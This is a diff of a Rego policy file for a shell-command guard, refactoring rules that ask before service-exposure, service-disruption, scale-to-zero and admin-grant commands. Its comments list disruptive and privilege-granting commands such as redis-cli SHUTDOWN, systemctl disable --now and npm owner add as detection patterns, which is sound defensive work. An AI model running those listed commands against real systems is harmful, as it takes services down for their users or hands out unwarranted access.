 # statement of a powershell/pwsh -Command argument (whose cmdlets hookward-shell reads for
 # signals only).
 windows_statements contains words if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	words := [lower(w) | some w in c.argv]
 }
 
 windows_statements contains words if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	lower(c.program) in {"pwsh", "powershell", "pwsh.exe", "powershell.exe"}
 	some i, a in c.argv
 	lower(a) in {"-command", "-c"}
@@ -4013,7 +4041,7 @@ option_value(words, opt) := v if {
 } else := ""
 
 decision contains {"id": "shell/service-exposed", "decision": "ask", "reason": reason} if {
-	count(facts_of("commands")) > 0
+	count(sf_commands) > 0
 	some words in windows_statements
 	windows_port_opened(words)
 	reason := sprintf("the command would open a database, control-plane or remote-desktop port to every address (%s)", [concat(" ", words)])
@@ -4070,14 +4098,14 @@ tunnels_out(c) if {
 # @rule shell/service-disrupt ask
 # Taking a shared service down for the people who use it: a data store or broker on another host told to stop or stall (redis-cli -h HOST SHUTDOWN, DEBUG SLEEP, CLIENT PAUSE, REPLICAOF; rabbitmqctl -n rabbit@HOST stop_app, stop, reset, close_all_connections; Elasticsearch shard allocation set to none or a node shut down over its REST API), a scheduler node drained by force (nomad node drain -enable -force or with a deadline under a minute) or put in maintenance (consul maint -enable), a PaaS app put in maintenance or stopped (heroku maintenance:on, railway down, kamal app stop, kamal accessory remove), a service stopped and kept from starting again (systemctl disable --now, Stop-Service with Set-Service -StartupType Disabled, sc config start= disabled). Local servers, restarts and graceful drains are not asked about.
 decision contains {"id": "shell/service-disrupt", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	disrupts_service(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would take a shared service down (%s)", [c.evidence])
 }
 
 decision contains {"id": "shell/service-disrupt", "decision": "ask", "reason": reason} if {
-	count(facts_of("commands")) > 0
+	count(sf_commands) > 0
 	some stop in windows_statements
 	some disable in windows_statements
 	name := windows_stopped_service(stop)
@@ -4272,7 +4300,7 @@ disrupts_service(c) if {
 # A PaaS app scaled to zero (heroku ps:scale web=0, fly scale count 0; scales_to_zero above):
 # every dyno or machine of it stops, whatever the app is called.
 decision contains {"id": "shell/scale-to-zero", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	c.program in {"heroku", "fly", "flyctl"}
 	scales_to_zero(c)
 	not asks_for_help(c)
@@ -4329,7 +4357,7 @@ windows_service_name(words) := n if {
 # @rule shell/admin-grant ask
 # Handing out administrator rights in a database, broker, cluster, registry or PaaS: a user, token, tag or invitation whose role is admin, administrator, root, superuser, owner or management (mongosh createUser with roles root or *AnyDatabase, Elasticsearch _security/user with superuser, rabbitmqctl set_user_tags U administrator, nomad acl token create -type=management, consul acl token create -policy-name global-management, vercel teams invite --role OWNER, heroku access:add --permissions …manage), a Vault policy over every path (path "*"), a package's ownership or write access given away (npm owner add, npm access grant read-write, gem owner --add, cargo owner --add), every pending machine key accepted (salt-key -A, puppetserver ca sign --all), a framework superuser created against production (manage.py … create_superuser --settings=…prod). Read-only users and ordinary roles are not asked about.
 decision contains {"id": "shell/admin-grant", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	grants_admin(c)
 	not asks_for_help(c)
 	reason := sprintf("the command would hand out administrator rights (%s)", [c.evidence])
